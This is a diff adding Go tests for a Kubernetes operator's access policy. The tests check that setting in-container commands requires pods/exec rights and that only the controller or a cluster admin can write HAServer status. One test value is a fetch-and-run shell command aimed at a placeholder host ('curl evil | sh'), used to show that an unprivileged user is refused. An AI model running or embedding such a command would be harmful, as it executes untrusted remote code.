@@ -884,4 +884,92 @@ func TestServerPodsNeedPodCreate(t *testing.T) {
 		s.Spec.Request = &hav1alpha1.OperatorRequest{ID: "r1", Action: hav1alpha1.ActionSwap}
 	}))
 	allowed(t, "paula changing the image", edit(paula, func(s *hav1alpha1.HAServer) { s.Spec.Template.Spec.Containers[0].Image = "busybox:2" }))
+
+	// The commands hamon runs inside the server's container need pods/exec.
+	wantExec := "hamon runs them inside the server's container, so that needs the right to create pods/exec in apps"
+	withCommands := haServer(ns, "cmds")
+	withCommands.Spec.TermCommand = []string{"stop"}
+	refused(t, "paula (no pods/exec) creating an HAServer with a termCommand", paula.Create(ctx, withCommands), wantExec)
+	execer := &rbacv1.Role{
+		ObjectMeta: metav1.ObjectMeta{Name: "execer", Namespace: ns},
+		Rules:      []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"pods/exec"}, Verbs: []string{"create"}}},
+	}
+	create(t, execer, &rbacv1.RoleBinding{
+		ObjectMeta: metav1.ObjectMeta{Name: "execers", Namespace: ns},
+		RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: execer.Name},
+		Subjects:   []rbacv1.Subject{userSubject("paula")},
+	})
+	for _, c := range []struct {
+		who    string
+		change func(*hav1alpha1.HAServer)
+	}{
+		{"setting termCommand", func(s *hav1alpha1.HAServer) { s.Spec.TermCommand = []string{"sh", "-c", "curl evil | sh"} }},
+		{"setting patrolCommand", func(s *hav1alpha1.HAServer) { s.Spec.PatrolCommand = []string{"sh"} }},
+		{"setting patrol", func(s *hav1alpha1.HAServer) { s.Spec.Patrol = &hav1alpha1.PatrolSpec{Command: []string{"sh"}} }},
+	} {
+		refused(t, "hank "+c.who, edit(hank, c.change), "hank may not set or change spec.termCommand", wantExec)
+	}
+	untilAllowed(t, "paula (pods/exec) setting termCommand", func() error {
+		return edit(paula, func(s *hav1alpha1.HAServer) { s.Spec.TermCommand = []string{"stop"} })
+	})
+	allowed(t, "hank changing switchType of a server with a termCommand", edit(hank, func(s *hav1alpha1.HAServer) {
+		s.Spec.SwitchType = hav1alpha1.SwitchTypeSwitch
+	}))
+	refused(t, "hank changing the termCommand", edit(hank, func(s *hav1alpha1.HAServer) { s.Spec.TermCommand = []string{"other"} }), wantExec)
+}
+
+// TestOnlyTheControllerWritesServerStatus: a user with a namespace Role of
+// verbs * on resources *.* (the one who could, before this policy, have
+// made an agent preempt a disk or reboot its node by writing
+// status.agentRequests) may not write the status of an HAServer or an
+// HAServerGroup; the controller's ServiceAccount may, and so may a cluster
+// admin (break-glass: the verb override, granted cluster-wide).
+func TestOnlyTheControllerWritesServerStatus(t *testing.T) {
+	ctx := t.Context()
+	const ns = "status-ns"
+	everything := &rbacv1.Role{
+		ObjectMeta: metav1.ObjectMeta{Name: "everything", Namespace: ns},
+		Rules:      []rbacv1.PolicyRule{{APIGroups: []string{"*"}, Resources: []string{"*"}, Verbs: []string{"*"}}},
+	}
+	create(t,
+		&corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: ns}},
+		everything,
+		&rbacv1.RoleBinding{
+			ObjectMeta: metav1.ObjectMeta{Name: "nina-everything", Namespace: ns},
+			RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: everything.Name},
+			Subjects:   []rbacv1.Subject{userSubject("nina")},
+		},
+		clusterRoleBinding("test-ada-cluster-admin", "cluster-admin", userSubject("ada")),
+		haServer(ns, "db"),
+		&hav1alpha1.HAServerGroup{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "g"}},
+	)
+	nina, ada := clientAs(t, "nina"), clientAs(t, "ada")
+	manager := clientAs(t, "system:serviceaccount:"+agentNS+":"+managerSA)
+	fence := func(c client.Client, node string) error {
+		var s hav1alpha1.HAServer
+		if err := c.Get(ctx, client.ObjectKey{Namespace: ns, Name: "db"}, &s); err != nil {
+			return err
+		}
+		s.Status.AddAgentRequest(node, hav1alpha1.AgentFenceHost, 1, metav1.Now())
+		return c.Status().Update(ctx, &s)
+	}
+	groupStatus := func(c client.Client) error {
+		var g hav1alpha1.HAServerGroup
+		if err := c.Get(ctx, client.ObjectKey{Namespace: ns, Name: "g"}, &g); err != nil {
+			return err
+		}
+		g.Status.TargetNode = nodeB
+		return c.Status().Update(ctx, &g)
+	}
+	want := "only the hamon controller writes it"
+	untilRefused(t, "nina asking node-a's agent to terminate its OS", func() error { return fence(nina, nodeA) }, want)
+	refused(t, "nina writing an HAServer's status", fence(nina, nodeB),
+		"nina may not write the status of haservers status-ns/db", want, `verb "override"`)
+	refused(t, "nina writing an HAServerGroup's status", groupStatus(nina), "haservergroups status-ns/g", want)
+	// nina may still do what her Role gives her outside the status.
+	var s hav1alpha1.HAServer
+	allowed(t, "nina reading the HAServer", nina.Get(ctx, client.ObjectKey{Namespace: ns, Name: "db"}, &s))
+	allowed(t, "the controller writing the status", fence(manager, nodeA))
+	allowed(t, "the controller writing a group's status", groupStatus(manager))
+	untilAllowed(t, "a cluster admin writing the status (break-glass)", func() error { return fence(ada, nodeA) })
 }
